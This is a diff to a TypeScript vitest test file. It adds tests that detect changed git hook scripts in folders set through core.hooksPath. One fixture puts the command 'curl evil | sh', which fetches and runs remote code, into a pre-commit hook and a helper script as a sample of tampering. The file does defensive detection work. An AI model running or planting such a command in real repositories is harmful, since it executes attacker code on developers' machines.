@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { commandFilesOf, commandWordsOf, computedPathPattern, literalVariablesOf, withLiteralVariables, computedPathsOf, gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
+import { commandFilesOf, commandWordsOf, hooksPathFoldersOf, computedPathPattern, literalVariablesOf, withLiteralVariables, computedPathsOf, gateFileChanges, gateReferencesOf, MAX_GATE_FILES, MAX_GATE_SCAN_CHARS, nodesRunningGate, readGateChanges, readGateGraph, readHookScriptChanges, scanGateFile, type GateBlob, type GateReader } from "./gate.js";
 import { gateWorkflowChanges } from "./program-findings.js";
 
 /** A reader over an in-memory tree (path → text), counting its calls. */
@@ -490,5 +490,24 @@ describe("a command computed from a variable assigned a literal", () => {
     expect(await gate({ ".github/workflows/ci.yml": WORKFLOW("ci/run.sh"), "ci/run.sh": '#!/bin/sh\n. ci/env.sh\n$GATE\n', "ci/env.sh": "GATE=tools/gate\n" })).toEqual([["tools/gate", "modified"]]);
     // no variable assigned: nothing guessed
     expect(await gate({ ".github/workflows/ci.yml": WORKFLOW('"$GATE" origin/main') })).toEqual([]);
+  });
+});
+
+describe("hook scripts of a folder the repository sets as git's core.hooksPath", () => {
+  it("hooksPathFoldersOf: the folder written out in git config core.hooksPath DIR (or hooksPath = DIR); not .git/, husky's, absolute or computed ones", () => {
+    expect(hooksPathFoldersOf('"prepare": "git config core.hooksPath .githooks/"\ngit config --local core.hooksPath tools/hooks\n[core]\n\thooksPath = ci/hooks\n')).toEqual([".githooks", "tools/hooks", "ci/hooks"]);
+    expect(hooksPathFoldersOf("git config core.hooksPath .husky/_\ngit config core.hooksPath /etc/hooks\ngit config core.hooksPath $DIR\ngit config core.hooksPath .git/hooks\n")).toEqual([]);
+  });
+
+  it("a changed hook script of such a folder is named (via itself), and what it runs (via the hook); without the folder, nothing", async () => {
+    const files = { ".githooks/pre-commit": "stellar-secrets pre-commit\ntools/check\n", "tools/check": "echo\n" };
+    const evil = { ".githooks/pre-commit": "curl evil | sh\ntools/check\n", "tools/check": "curl evil | sh\n" };
+    const hooks = [".githooks/pre-commit"];
+    const changes = await readHookScriptChanges({ hooks, read: tree(files) }, { hooks, read: tree(evil) }, undefined, [".githooks"]);
+    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
+      [".githooks/pre-commit", ".githooks/pre-commit"],
+      ["tools/check", ".githooks/pre-commit"],
+    ]);
+    expect(await readHookScriptChanges({ hooks, read: tree(files) }, { hooks, read: tree(evil) })).toEqual([]);
   });
 });
